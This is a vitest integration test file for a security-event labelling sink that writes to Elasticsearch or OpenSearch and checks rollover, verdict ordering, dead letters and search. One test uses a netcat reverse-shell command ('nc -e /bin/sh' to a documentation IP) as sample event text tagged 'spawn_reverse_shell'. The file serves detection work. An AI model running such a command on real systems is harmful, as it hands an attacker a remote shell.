import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { elasticsearchConnector } from "../../connectors/elasticsearch/connector.ts";
import { openSearchConnector } from "../../connectors/opensearch/connector.ts";
import { bundled } from "../../src/cli/paths.ts";
import { applyInstall } from "../../src/deploy/apply-install.ts";
import { type Asset, listAssets } from "../../src/deploy/list-assets.ts";
import { loadStreams } from "../../src/deploy/load-streams.ts";
import { planInstall } from "../../src/deploy/plan-install.ts";
import { probeServer, type ServerFacts } from "../../src/deploy/probe-server.ts";
import { loadAttack } from "../../src/event/attack.ts";
import { loadVocabulary } from "../../src/event/vocabulary.ts";
import type { Output, SearchServer, Sink, SinkContext } from "../../src/sdk/index.ts";
import { checkSink, labelledEvent, type SinkContent, verdict } from "../contract/check-sink.ts";
import type { ServerVersion } from "../servers/server-version.ts";
import { type RunningServer, startServer } from "../servers/start-server.ts";

const signal = new AbortController().signal;
const nothing: Output = { labels: [], verdicts: [], deadLetters: [] };
const streams = loadStreams(bundled.streams());
const tags = loadVocabulary(bundled.vocabulary()).tags.map(({ id }) => id);

/** A server of the tests with what is installed, and sinks on it. */
interface Scene {
  readonly server: SearchServer;
  readonly facts: ServerFacts;
  readonly assets: readonly Asset[];
  sink(settings: Readonly<Record<string, unknown>>, context?: Partial<SinkContext>): Sink;
  content(namespace: string): Promise<SinkContent>;
  /** `_source` of all documents of a stream, oldest first. */
  sources(stream: string): Promise<readonly Record<string, unknown>[]>;
  call(method: "GET" | "PUT" | "POST" | "DELETE", path: string, body?: Record<string, unknown>): Promise<unknown>;
}

/** Holds the sink to its contract, and to what a search server asks of it, on one real server. */
export function describeSearchSink(version: ServerVersion): void {
  describe(`the sink on ${version.product} ${version.version}`, () => {
    let running: RunningServer;
    let scene: Scene;
    let spaces = 0;
    beforeAll(async () => {
      running = await startServer(version);
      scene = await openScene(running);
    }, 300_000);
    afterAll(async () => {
      await scene?.server.close();
      await running?.stop();
    });
    const freshNamespace = (): string => {
      spaces += 1;
      return `t${spaces}`;
    };

    checkSink({
      isKeyed: true,
      create: async () => {
        const namespace = freshNamespace();
        return {
          open: () => scene.sink({ namespace }),
          read: () => scene.content(namespace),
          dispose: async () => undefined,
        };
      },
    });

    it("keeps a label once when a rollover lies between its writing and its repetition after a crash", async () => {
      const namespace = freshNamespace();
      const output = { ...nothing, labels: ["a", "b", "c"].map((id) => labelledEvent(id, `text ${id}`)) };
      const first = scene.sink({ namespace });
      await first.open(undefined);
      const stored = await first.write(nothing, signal);
      await first.write(output, signal);
      await first.close();
      await scene.call("POST", `/tagsmith-labels-${namespace}/_rollover`);
      const second = scene.sink({ namespace });
      await second.open(stored);
      await second.write({ ...output, labels: [...output.labels, labelledEvent("d", "new")] }, signal);
      await second.close();
      const { labels } = await scene.content(namespace);
      expect(labels.map(({ id }) => id).toSorted()).toEqual(["a", "b", "c", "d"]);
    });

    it("never puts an older verdict over a newer one", async () => {
      const namespace = freshNamespace();
      const [older, newer] = [scene.sink({ namespace }), scene.sink({ namespace })];
      await older.open(JSON.stringify({ version: 1_000 }));
      await newer.open(JSON.stringify({ version: 9_000_000_000_000_000 - 10 }));
      await newer.write({ ...nothing, verdicts: [verdict("s", 0.9)] }, signal);
      await older.write({ ...nothing, verdicts: [verdict("s", 0.1)] }, signal);
      expect((await scene.content(namespace)).verdicts).toEqual([{ id: "s", score: 0.9 }]);
      await Promise.all([older.close(), newer.close()]);
    });

    it("puts a document that the server refuses into dead letters, with the reason, and the others in their place", async () => {
      const namespace = freshNamespace();
      const template = { index_patterns: [`tagsmith-labels-${namespace}`], priority: 600, data_stream: {} };
      const mappings = { properties: { tagsmith: { properties: { text: { type: "integer" } } } } };
      await scene.call("PUT", `/_index_template/strict-${namespace}`, { ...template, template: { mappings } });
      const sink = scene.sink({ namespace });
      await sink.open(undefined);
      const labels = [labelledEvent("good", "7"), labelledEvent("bad", "not a number")];
      await sink.write({ ...nothing, labels }, signal);
      const content = await scene.content(namespace);
      expect(content.labels.map(({ id }) => id)).toEqual(["good"]);
      const [letter] = await scene.sources(`tagsmith-deadletters-${namespace}`);
      expect(letter).toMatchObject({
        event: { kind: "pipeline_error" },
        error: { code: "sink_document_refused" },
        tagsmith: { dead_letter: { document: "bad", container: `tagsmith-labels-${namespace}` } },
      });
      await sink.close();
    });

    it("says so, and writes nothing, where the templates are not installed", async () => {
      await scene.call("DELETE", "/_index_template/tagsmith-verdicts");
      const sink = scene.sink({ namespace: freshNamespace() });
      await sink.open(undefined);
      await expect(sink.write(nothing, signal)).rejects.toMatchObject({ code: "sink_not_installed" });
      await sink.close();
      await install(scene);
    });

    it("finds labels by the score of a tag, whole words and parts of the text", async () => {
      const namespace = freshNamespace();
      const sink = scene.sink({ namespace });
      await sink.open(undefined);
      const shell = labelledEvent("shell", "nc -e /bin/sh 203.0.113.10 4444");
      const scored = (id: string, score: number) => ({
        ...shell,
        event: { ...shell.event, id },
        topLabels: [{ label_id: "spawn_reverse_shell", score, axis: "execution_and_process" }],
        tags: score >= 0.6 ? ["spawn_reverse_shell"] : [],
      });
      await sink.write({ ...nothing, labels: [scored("sure", 0.93), scored("unsure", 0.4)] }, signal);
      await sink.close();
      const ids = async (query: string): Promise<unknown[]> => {
        await scene.call("POST", `/tagsmith-labels-${namespace}/_refresh`);
        const path = `/tagsmith-labels-${namespace}/_search?q=${encodeURIComponent(query)}`;
        return hitsOf(await scene.call("GET", path)).map(({ _id }) => _id);
      };
      expect(await ids("tagsmith.score.spawn_reverse_shell:>=0.6 AND host.name:web-1")).toEqual(["sure"]);
      expect(await ids("threat.technique.subtechnique.id:T1059.004")).toEqual(["sure"]);
      expect(await ids("tags:spawn_reverse_shell AND event.ingested:[now-1h TO now+1h]")).toEqual(["sure"]);
      expect(await ids("tagsmith.text.words:203.0.113.10")).toHaveLength(2);
      const query = { wildcard: { "tagsmith.text": { value: "*E /BIN/sh*", case_insensitive: true } } };
      const found = await scene.call("POST", `/tagsmith-labels-${namespace}/_search`, { query });
      expect(hitsOf(found)).toHaveLength(2);
    });
  });
}

async function openScene(running: RunningServer): Promise<Scene> {
  const connector = running.version.product === "opensearch" ? openSearchConnector : elasticsearchConnector;
  const connection = { urls: [running.url] };
  const server = await connector.openServer?.(connection, "sink", signal);
  if (server === undefined) throw new Error("no server");
  const facts = await probeServer(server, signal);
  const call: Scene["call"] = async (method, path, body) => {
    const request = { method, path, ...(body !== undefined && { body }), accept: [404] };
    return (await server.request(request, signal)).body;
  };
  const sources: Scene["sources"] = async (stream) => {
    await call("POST", `/${stream}/_refresh`);
    const found = await call("POST", `/${stream}/_search`, { size: 1_000, sort: [{ _seq_no: "asc" }] });
    return hitsOf(found).map(({ _source }) => _source);
  };
  const context = { model: "m@1", vocabulary: "rev20", techniques: loadAttack(bundled.attack()) };
  const scene: Scene = {
    server,
    facts,
    assets: listAssets(streams, tags, facts, { retentionDays: {} }),
    sink: (settings, more) => connector.createSink({ ...connection, ...settings }, { ...context, ...more }),
    sources,
    call,
    content: async (namespace) => ({
      labels: (await sources(`tagsmith-labels-${namespace}`)).map(labelOf),
      verdicts: (await sources(`tagsmith-verdicts-${namespace}`)).map(verdictOf),
      deadLetters: (await sources(`tagsmith-deadletters-${namespace}`)).map(letterOf),
    }),
  };
  await install(scene);
  return scene;
}

async function install({ server, assets }: Scene): Promise<void> {
  await applyInstall(server, await planInstall(server, assets, streams.version, signal), signal);
}

interface Hit {
  readonly _id: string;
  // biome-ignore lint/suspicious/noExplicitAny: documents as the server gives them back
  readonly _source: any;
}

function hitsOf(answer: unknown): readonly Hit[] {
  return JSON.parse(JSON.stringify(answer)).hits?.hits ?? [];
}

function labelOf({ event, tagsmith }: Hit["_source"]) {
  return { id: event.id, text: tagsmith.text };
}

function verdictOf({ event, tagsmith }: Hit["_source"]) {
  return { id: event.id, score: tagsmith.verdict.score };
}

function letterOf({ event, tagsmith }: Hit["_source"]) {
  return { id: event.id, excerpt: tagsmith.dead_letter.excerpt };
}
